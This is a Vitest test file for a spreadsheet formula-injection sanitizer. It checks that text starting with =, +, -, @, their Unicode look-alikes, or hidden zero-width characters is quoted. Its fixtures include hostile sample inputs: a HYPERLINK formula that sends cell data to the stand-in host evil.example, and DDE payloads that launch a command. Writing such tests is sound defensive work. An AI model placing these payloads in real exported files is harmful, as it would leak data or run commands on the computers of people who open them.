import { describe, expect, it } from 'vitest';
import { DANGEROUS_STARTS } from './fixtures';
import { isFormulaLike, sanitizeText } from './sanitize';

describe('sanitizeText', () => {
  it.each(DANGEROUS_STARTS)('quotes text starting with %j', (start) => {
    const text = `${start}HYPERLINK("https://evil.example/?"&A1,"Click")`;
    expect(isFormulaLike(text)).toBe(true);
    expect(sanitizeText(text)).toBe(`'${text}`);
  });

  it.each([' =1+1', '   +41 58 000 00 00', '\n-2', '\u00a0@SUM(A1)', '\u3000＝1', ' \r\n=cmd|"/C calc"!A0'])(
    'quotes %j: the trigger hides behind leading white space',
    (text) => {
      expect(sanitizeText(text)).toBe(`'${text}`);
    },
  );

  it.each([
    '',
    'A-Post Plus',
    'Päckli',
    '12.50',
    'a=b',
    'x+y',
    "'=already quoted",
    '#N/A',
    ' padded ',
    '(1)',
  ])('leaves %j alone', (text) => {
    expect(isFormulaLike(text)).toBe(false);
    expect(sanitizeText(text)).toBe(text);
  });

  // Small and full-width forms and the minus sign: programs that fold compatibility characters
  // (NFKC) to ASCII read them as = + - @.
  it.each([
    ['U+FE62 small plus', '\uFE62'],
    ['U+FE63 small hyphen-minus', '\uFE63'],
    ['U+FE66 small equals', '\uFE66'],
    ['U+2212 minus sign', '\u2212'],
    ['U+FF0B full-width plus', '\uFF0B'],
    ['U+FF0D full-width hyphen-minus', '\uFF0D'],
    ['U+FF1D full-width equals', '\uFF1D'],
    ['U+FF20 full-width at', '\uFF20'],
  ])('quotes text starting with %s', (_label, start) => {
    const text = `${start}1+cmd|' /C calc'!A0`;
    expect(sanitizeText(text)).toBe(`'${text}`);
  });

  // Invisible characters in front of a trigger: a first-character check sees a harmless character,
  // a program that drops them sees a formula.
  it.each([
    ['U+200B zero-width space', '\u200B'],
    ['U+200C zero-width non-joiner', '\u200C'],
    ['U+200D zero-width joiner', '\u200D'],
    ['U+2060 word joiner', '\u2060'],
    ['U+FEFF byte-order mark', '\uFEFF'],
    ['U+00AD soft hyphen', '\u00AD'],
    ['U+200E left-to-right mark', '\u200E'],
    ['a mix of them and white space', '\u200B \t\u2060\r\n\uFEFF'],
  ])('quotes a trigger behind %s', (_label, prefix) => {
    for (const trigger of ['=', '+', '-', '@', '\uFE66', '\u2212']) {
      const text = `${prefix}${trigger}SUM(A1:A9)`;
      expect(sanitizeText(text), JSON.stringify(text)).toBe(`'${text}`);
    }
  });

  it.each(['\u200BA-Post', '\uFEFFPäckli', '\u2060 12.50', '1\u2212 2', 'x\uFE62y'])(
    'leaves %j alone: no trigger after the invisible characters',
    (text) => {
      expect(sanitizeText(text)).toBe(text);
    },
  );

  it('is idempotent', () => {
    for (const start of DANGEROUS_STARTS) {
      const once = sanitizeText(`${start}1`);
      expect(sanitizeText(once)).toBe(once);
    }
  });
});
